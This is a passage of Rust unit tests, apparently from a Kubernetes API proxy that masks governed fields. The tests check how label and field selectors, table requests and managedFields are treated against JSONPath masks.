    fn a_selector_of_what_is_governed_says_which_objects_have_it() {
        let selects = |paths: &[&str], target: &str| match asked(target) {
            Request::Resource(asked) => {
                let places = places(paths);
                Places::selects(&masks(&places, target), &asked)
            }
            Request::Path(..) => panic!("{target}"),
        };
        let pods = |query: &str| format!("/api/v1/pods?{query}");
        for (paths, query, expected) in [
            (&[][..], "labelSelector=nick%3Dx", false),
            (&[], "fieldSelector=spec.nodeName%3Dn", false),
            (&["$..metadata.labels.nick"], "labelSelector=nick%3Dx", true),
            (&["$..metadata.labels.nick"], "labelSelector=app%3Dx", false),
            (&["$..metadata.labels.nick"], "labelSelector=app%3Dx,nick+in+(a,b)", true),
            (&["$..metadata.labels.nick"], "labelSelector=app+in+(nick,b)", false),
            (&["$.metadata.labels.nick"], "labelSelector=!nick", true),
            (&["$.items[*].metadata.labels.nick"], "labelSelector=nick", true),
            (&["$.items[*].metadata.labels.nick"], "labelSelector=nick&watch=1", true),
            (&["$..labels"], "labelSelector=app", true),
            (&["$..spec.nodeName"], "fieldSelector=spec.nodeName%3Dn", true),
            (&["$..spec.nodeName"], "fieldSelector=spec.host%3Dn", true),
            (&["$..spec.nodeName"], "fieldSelector=metadata.name%3Dn", false),
            (&["$..spec.nick"], "fieldSelector=spec.nodeName!%3Dn&labelSelector=nick", false),
        ] {
            assert_eq!(selects(paths, &pods(query)), expected, "{paths:?} {query}");
        }
    }

    #[test]
    fn a_table_comes_where_no_cell_of_it_can_be_at_an_operators_path() {
        let tables = |paths: &[&str], target: &str| match asked(target) {
            Request::Resource(asked) => places(paths).tables(&asked),
            Request::Path(..) => panic!("{target}"),
        };
        let (pods, events) = ("/api/v1/pods", "/apis/events.k8s.io/v1/events");
        for (paths, target, expected) in [
            (&[][..], THING, true),
            (&["$..spec.nick"], THING, false),
            (&["$..spec.nick"], pods, true),
            (&["$..spec.nick"], DEPLOYMENT, true),
            (&["$..spec.nodeName"], pods, false),
            (&["$..status"], pods, false),
            (&["$..matchLabels.app"], DEPLOYMENT, false),
            (&["$..selector.app"], "/api/v1/services", false),
            (&["$..app"], DEPLOYMENT, false),
            (&["$.spec.nick"], pods, false),
            (&["$..message"], events, false),
            (&["$..spec.nick"], "/apis/coordination.k8s.io/v1/leases", false),
        ] {
            assert_eq!(tables(paths, target), expected, "{paths:?} {target}");
        }
        let managed = r#"{"metadata":{"managedFields":[{"fieldsV1":{"f:also":{"v:\"x\"":{}}}}]}}"#;
        let clean = r#"{"metadata":{"managedFields":null}}"#;
        assert_eq!(shown(&masks(&places(&["$..spec.nick"]), pods), managed), clean);
        assert_eq!(shown(&masks(&places(&[]), pods), managed), managed);
    }
}
